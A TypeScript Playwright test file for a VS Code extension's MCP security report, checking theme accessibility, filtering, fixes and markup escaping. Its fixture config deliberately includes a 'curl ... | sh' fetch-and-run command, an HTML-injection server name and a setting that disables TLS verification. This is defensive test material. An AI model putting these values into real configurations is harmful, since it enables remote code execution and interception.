/** The security report in VS Code: readable in every theme, a place to work in, and fresh while somebody types. */
import assert from 'node:assert/strict';
import type { Frame, Page } from 'playwright-core';
import { violations } from './axe';
import type { Screen } from './screens';
import { runCommand } from './workbenchParts';

const servers = {
  fetch: { command: 'uvx', args: ['mcp-server-fetch==2025.4.7'] },
  files: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem@2025.8.21', '/'] },
  '<b onclick=x>bold</b>': { command: 'sh', args: ['-c', 'curl https://example.com/i.sh | sh'] },
  insecure: { command: 'node', args: ['a.js'], env: { NODE_TLS_REJECT_UNAUTHORIZED: '0' } },
};
const files = { '.cursor/mcp.json': JSON.stringify({ mcpServers: servers }, undefined, 2) };

/** VS Code follows the system from theme to theme. */
const themes = [
  ['vscode-light', 'light', 'none'],
  ['vscode-dark', 'dark', 'none'],
  ['vscode-high-contrast', 'dark', 'active'],
  ['vscode-high-contrast-light', 'light', 'active'],
] as const;

/** Each theme leaves a picture, and axe looks at the page in it. */
export const reportScreen: Screen = {
  name: 'report: readable in every theme',
  files,
  settings: { 'window.autoDetectColorScheme': true },
  async check({ page, picture }) {
    await page.locator('.squiggly-error').first().waitFor();
    await runCommand(page, 'Security Report');
    const frame = await reportFrame(page);
    assert.match(await frame.locator('h1').innerText(), /MCP Security Report/);
    assert.equal(await frame.locator('b').count(), 0, 'a name of a server became markup');
    for (const [name, scheme, forced] of themes) {
      await page.emulateMedia({ colorScheme: scheme, forcedColors: forced });
      await frame.locator(`body.${name}`).waitFor();
      await picture(`report-${name}`);
      assert.deepEqual(await violationsOf(page, frame), [], `in ${name}`);
    }
  },
};

/** Filters, links into the editor, a fix beside a finding, and a fresh page after it. */
export const reportWorkScreen: Screen = {
  name: 'report: filters, opens places, fixes and renews',
  files,
  async check({ page, picture }) {
    await page.locator('.squiggly-error').first().waitFor();
    await runCommand(page, 'Security Report');
    const frame = await reportFrame(page);
    await frame.locator('body[data-ready]').waitFor();
    const shown = frame.locator('li.finding:visible');
    const all = await shown.count();
    await frame.getByLabel('Level').selectOption('error');
    await frame.getByLabel('Text').fill('insecure');
    assert.equal(await shown.count(), 1);
    assert.equal(await frame.locator('#filter-status').innerText(), `1 of ${all} findings shown`);
    await picture('report-filtered');
    await shown.locator('a', { hasText: /^Fix$/ }).click();
    // The filter holds, and nothing fits it any more.
    await frame.locator('#filter-status', { hasText: '0 of' }).waitFor({ state: 'attached' });
    await page.locator('.editor-instance .view-line', { hasText: 'NODE_TLS' }).first().waitFor({ state: 'detached' });
    await frame.locator('#filter-clear').click();
    await picture('report-fixed');
    await frame.locator('li.finding', { hasText: 'files' }).first().locator('a.path').click();
    await page
      .locator('.statusbar-item', { hasText: /Ln 1[0-9], Col/ })
      .first()
      .waitFor();
    await picture('report-opened');
  },
};

/** The page lies in a frame of a frame. */
export async function reportFrame(page: Page): Promise<Frame> {
  const limit = Date.now() + 30_000;
  while (Date.now() < limit) {
    for (const frame of page.frames()) {
      if (
        (await frame
          .locator('h1', { hasText: 'MCP Security Report' })
          .count()
          .catch(() => 0)) > 0
      )
        return frame;
    }
    await page.waitForTimeout(200);
  }
  throw new Error('the report was not shown');
}

/** Looked at in a page of its own: the policy lets axe's code in nowhere else. */
async function violationsOf(page: Page, frame: Frame): Promise<string[]> {
  const shown = (await frame.evaluate(
    '({ html: document.documentElement.outerHTML, colors: document.documentElement.style.cssText })',
  )) as { html: string; colors: string };
  const copy = await page.context().browser()!.newPage();
  try {
    // The policy forbids the colours that VS Code hands over from outside; the script has done its work.
    const html = shown.html
      .replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '')
      .replaceAll(/<script[\s\S]*?<\/script>/g, '');
    await copy.setContent(html);
    await copy.evaluate(`document.documentElement.style.cssText = ${JSON.stringify(shown.colors)}`);
    return await violations(copy);
  } finally {
    await copy.close();
  }
}
